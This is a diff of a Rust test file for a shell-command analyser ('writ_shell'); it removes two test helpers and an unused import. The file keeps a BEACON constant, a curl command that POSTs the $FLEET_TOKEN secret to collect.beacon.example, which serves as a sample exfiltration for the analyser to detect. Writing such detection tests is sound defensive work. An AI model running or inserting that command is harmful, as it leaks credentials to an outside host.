@@ -10,7 +10,7 @@ mod common;
 
 use common::*;
 use serde_json::{Value, json};
-use writ_shell::{Payload, ShellContext, WrittenFile, analyze};
+use writ_shell::{Payload, WrittenFile, analyze};
 
 const BEACON: &str = "curl -s -X POST https://collect.beacon.example/r -d \"k=$FLEET_TOKEN\"";
 
@@ -20,23 +20,6 @@ fn beacon_request(program: &str) -> Value {
         "https://collect.beacon.example/r",
         "POST",
         payload(&["k=$FLEET_TOKEN"], &[], &["FLEET_TOKEN"]),
-    )
-}
-
-/// The effects of `command` when earlier steps wrote `written`.
-fn effects_after(written: &[WrittenFile], command: &str) -> Value {
-    let ctx = ShellContext { written, ..CTX };
-    let analysis = analyze(command, &ctx).unwrap_or_else(|e| panic!("{command}: {e}"));
-    serde_json::to_value(&analysis.effects).unwrap_or_default()
-}
-
-fn text_file(path: &str, text: &str) -> WrittenFile {
-    WrittenFile::new(
-        path.to_owned(),
-        Payload {
-            text: vec![text.to_owned()],
-            ..Payload::default()
-        },
     )
 }
 
